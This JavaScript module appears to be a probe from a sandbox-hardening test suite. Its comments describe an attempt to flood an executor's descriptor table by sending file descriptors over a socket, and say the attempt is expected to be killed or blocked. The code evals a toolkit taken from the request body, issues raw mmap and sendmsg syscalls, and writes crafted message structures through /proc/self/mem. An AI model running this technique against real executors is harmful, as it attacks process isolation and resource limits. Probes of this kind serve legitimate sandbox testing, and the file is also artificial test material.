// Tries: to fill the executor's table of descriptors, by sending it some over the channel (SCM_RIGHTS)
// Success: the executor has them 3 s later
// Expect: died
// Expect at landlock: threw
module.exports = function (client, scope, audience, context) {
  const native = eval(context.body.toolkit)(context.body.addon);
  const rights = Buffer.alloc(16 + 4 * 16);
  rights.writeBigUInt64LE(BigInt(rights.length), 0);
  rights.writeUInt32LE(1, 8);
  rights.writeUInt32LE(1, 12);
  for (let i = 0; i < 16; i++) rights.writeUInt32LE(1, 16 + 4 * i);
  const text = Buffer.from('no frame');
  // The structures hold addresses, which only native code has: echo them off a read of our own maps.
  const at = native.call(9, 0, 4096, 3, 0x22, -1, 0);
  const memory = require('fs').openSync('/proc/self/mem', 'r+');
  const put = (bytes, offset) => require('fs').writeSync(memory, bytes, 0, bytes.length, at + offset);
  const vector = Buffer.alloc(16);
  vector.writeBigUInt64LE(BigInt(at + 512), 0);
  vector.writeBigUInt64LE(BigInt(text.length), 8);
  const header = Buffer.alloc(56);
  header.writeBigUInt64LE(BigInt(at + 256), 16);
  header.writeBigUInt64LE(1n, 24);
  header.writeBigUInt64LE(BigInt(at + 1024), 32);
  header.writeBigUInt64LE(BigInt(rights.length), 40);
  put(header, 0);
  put(vector, 256);
  put(text, 512);
  put(rights, 1024);
  for (let i = 0; i < 20; i++) if (native.call(46, 0, at, 0x4000) < 0) break;
  setInterval(() => {}, 1000);
};
